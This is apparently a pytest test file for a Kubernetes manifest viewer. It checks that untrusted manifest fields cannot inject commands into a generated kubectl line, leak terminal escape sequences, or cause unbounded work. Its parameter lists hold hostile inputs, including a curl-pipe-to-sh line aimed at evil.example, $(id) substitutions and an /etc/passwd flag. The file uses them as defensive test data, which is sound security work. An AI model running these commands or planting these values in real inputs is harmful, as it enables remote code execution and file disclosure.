"""Facts about manifests of strangers: what they can't make a reader's shell or terminal do, or keep busy."""

import json
import subprocess
from contextlib import suppress
from pathlib import Path

import pytest
from tests.support.work import assert_bounded

from isolation_atlas.cluster.command import main
from isolation_atlas.cluster.graph.cluster import MAXIMUM_STEPS, resolve
from isolation_atlas.cluster.model.manifest import Manifest, parse_manifest
from isolation_atlas.cluster.model.selector import parse_selector
from isolation_atlas.cluster.output.text import kubectl_line, to_text
from isolation_atlas.cluster.view.builder import ViewOptions, build_view
from isolation_atlas.control_characters import CONTROL
from isolation_atlas.problem import AtlasError


def _pod(name: str, more: str = "") -> str:
    return (
        f"apiVersion: v1\nkind: Pod\nmetadata: {{name: {name}{more}}}\nspec: {{containers: [{{name: a, image: b}}]}}\n"
    )


def _line(manifest: str, **options: object) -> str:
    cluster = resolve(parse_manifest(manifest.encode(), "a.yml"))
    asked = ViewOptions("all", **options)  # type: ignore[arg-type]
    view = build_view(cluster, asked)
    assert view is not None
    return kubectl_line(cluster, view, asked)


_POLICY = "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: a}\nspec:\n"

HOSTILE = [
    *(
        "shop; curl -s https://evil.example/x|sh #",
        "shop\\ntouch x",
        "$(id)",
        "`id`",
        "-f/etc/passwd",
        "--kubeconfig=x",
    ),
    *("a b", "a'b", "Shop", "a" * 64, "!!", "\\u00e9", "a.b"),
]


@pytest.mark.parametrize("name", HOSTILE)
def test_there_is_no_command_where_a_namespace_is_none(name: str) -> None:
    assert _line(_pod("a", f', namespace: "{name}"')) == ""


@pytest.mark.parametrize(
    "kind", ["Widget; touch x #", "Gadget\\ntouch x\\n", "-f", "A B", "A,B", "$(id)", "A'", "A\\tB"]
)
def test_what_no_kind_can_be_called_is_refused(kind: str) -> None:
    text = f'{_pod("a")}---\napiVersion: e.org/v1\nkind: "{kind}"\nmetadata: {{name: a}}\n'
    manifest = parse_manifest(text.encode(), "a.yml")
    assert [found.kind.name for found in manifest.objects] == ["Pod"]
    assert [problem.message for problem in manifest.problems] == [
        "This can't be the name of a kind, which begins with a letter and has only letters, digits and dashes."
    ]


@pytest.mark.parametrize("group", ["e.org;id", "$(id)", "e org", "-e", "e'"])
def test_there_is_no_command_where_a_group_or_a_plural_is_none(group: str) -> None:
    assert _line(f'apiVersion: "{group}/v1"\nkind: Service\nmetadata: {{name: a}}\n') == ""
    definition = (
        "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: a}\n"
        f'spec: {{group: e.org, names: {{kind: Widget, plural: "{group}"}}}}\n'
    )
    assert _line(f"{definition}---\napiVersion: e.org/v1\nkind: Widget\nmetadata: {{name: a}}\n") == ""


@pytest.mark.parametrize(
    "selector", ["a=';id;'", "a in (b\nc)", "a=$HOME", "a=`id`", "é", 'a="b"', "a=b\\", "-f/etc/passwd"]
)
def test_there_is_no_command_where_a_selector_holds_more_than_labels(selector: str) -> None:
    parsed = parse_selector(selector)
    requirement = parsed.requirements[0]
    labels = json.dumps({requirement.key: (*requirement.values, "x")[0]})
    assert _line(_pod("a", f", labels: {labels}"), selector=parsed) == ""


def test_a_shell_takes_the_command_for_what_it_is(tmp_path: Path) -> None:
    command = _line(
        _pod("a", ", namespace: shop, labels: {app: web}"),
        namespace="shop",
        selector=parse_selector("app in (web, b),!c"),
    )
    said = subprocess.run(
        ["bash", "-c", f'kubectl() {{ printf "%s\\n" "$@"; }}; {command}'], capture_output=True, text=True, check=True
    ).stdout
    assert said.splitlines() == [
        *("get", "pods", "--namespace", "shop", "--selector", "app in (web, b),!c", "--output", "yaml")
    ]


@pytest.mark.parametrize(
    "manifest",
    [
        "apiVersion: v1\nkind: Pod\nmetadata:\n  name: a\n  labels: {message: '@'}\n",
        "apiVersion: v1\nkind: Service\nmetadata: {name: a}\nspec:\n  selector: {data: '@'}\n",
        "apiVersion: v1\nkind: Service\nmetadata: {name: a}\nspec:\n  selector: {annotations: '@'}\n",
        "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  nodeSelector: {command: '@'}\n",
        "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers: [{name: a, image: '@'}]\n",
        "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nstatus: {phase: '@'}\n",
        "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nstatus: {reason: '@'}\n",
        "apiVersion: v1\nkind: List\nitems:\n- {apiVersion: v1, kind: Pod, metadata: {name: a, labels: {args: '@'}}}\n",
        f"{_POLICY}  podSelector: {{matchLabels: {{data: '@'}}}}\n",
        f"{_POLICY}  podSelector: {{}}\n  ingress: [{{from: [{{podSelector: {{matchLabels: {{args: '@'}}}}}}]}}]\n",
    ],
)
@pytest.mark.parametrize("escape", [r"\e]0;taken\a", r"\u202e", r"\U000e0041", r"\u200f", r"\u009b1m"])
def test_a_field_that_is_shown_is_told_by_its_place_and_not_by_its_name(manifest: str, escape: str) -> None:
    with pytest.raises(AtlasError, match=r"contains the character U\+.*, which can't be shown\. Remove it\."):
        parse_manifest(manifest.replace("'@'", f'"{escape}"').encode(), "a.yml")


@pytest.mark.parametrize(
    "fields",
    [
        "metadata: {name: a, annotations: {x: '@'}}\nspec: {containers: [{name: a, args: ['@'], command: ['@']}]}\n",
        "metadata: {name: a}\nstatus: {message: '@', conditions: [{type: Ready, message: '@'}]}\n",
        "metadata: {name: a}\nspec: {containers: [{name: a, livenessProbe: {exec: {command: ['@']}}}]}\n",
    ],
)
def test_what_only_programs_read_may_hold_anything_and_is_never_shown(fields: str) -> None:
    text = f"apiVersion: v1\nkind: Pod\n{fields}".replace("'@'", r'"\e]0;taken\a\u202e"')
    cluster = resolve(parse_manifest(text.encode(), "a.yml"))
    view = build_view(cluster, ViewOptions("all"))
    assert view is not None
    assert not CONTROL.search(to_text(view))


def test_nothing_that_a_terminal_obeys_leaves_the_command(
    tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    (tmp_path / "\x1b]0;a\a.yml").write_text(_pod("a"), encoding="utf-8")
    for form in ("text", "svg", "mermaid"):
        for file in ("\x1b]0;a\a.yml", "\x1b[2J-gone.yml"):
            main([str(tmp_path / file), "--format", form, "--title", "\x1b]0;taken\a\u202e"])
    out, err = capfdbinary.readouterr()
    assert b"\x1b" not in out + err
    assert b"\x07" not in out + err
    assert "\u202e".encode() not in out + err


def _services(count: int, pods: int, label: str = "a: b") -> str:
    service = "\n---\napiVersion: v1\nkind: Service\nmetadata: {name: s%d}\nspec: {selector: {%s}}"
    pod = "\n---\napiVersion: v1\nkind: Pod\nmetadata: {name: p%d, labels: {%s}}"
    return "".join(service % (n, label) for n in range(count)) + "".join(pod % (n, label) for n in range(pods))


def test_selectors_that_lead_to_too_many_pods_are_refused_with_a_message() -> None:
    manifest = parse_manifest(_services(200, 1000).encode(), "a.yml")
    with pytest.raises(AtlasError, match=f"lead to more than {MAXIMUM_STEPS:,} objects. Print fewer objects, such as"):
        resolve(manifest)


def test_a_large_cluster_is_no_fault() -> None:
    assert len(resolve(parse_manifest(_services(40, 1000).encode(), "a.yml")).links) == 40_000


@pytest.mark.thorough
@pytest.mark.parametrize("shape", ["services", "misses", "policies", "near"])
def test_no_manifest_takes_more_than_its_time_to_link(shape: str) -> None:
    def make(size: int) -> str:
        count = size // 150
        if shape == "policies":
            policy = "\n---\napiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\n"
            policy += "metadata: {name: n%d}\nspec: {podSelector: {}}"
            return "".join(policy % n for n in range(count)) + _services(0, count)
        labels = {"services": "a: b", "misses": "a: b, c: d", "near": "a: b"}[shape]
        text = _services(count, count, labels)
        return text.replace("selector: {a: b", "selector: {a: c") if shape != "services" else text

    parsed: dict[int, Manifest] = {}

    def link(text: str) -> None:
        with suppress(AtlasError):
            resolve(parsed[len(text)])

    def prepare(size: int) -> str:
        text = make(size)
        parsed[len(text)] = parse_manifest(text.encode(), "a.yml")
        return text

    assert_bounded(link, prepare)
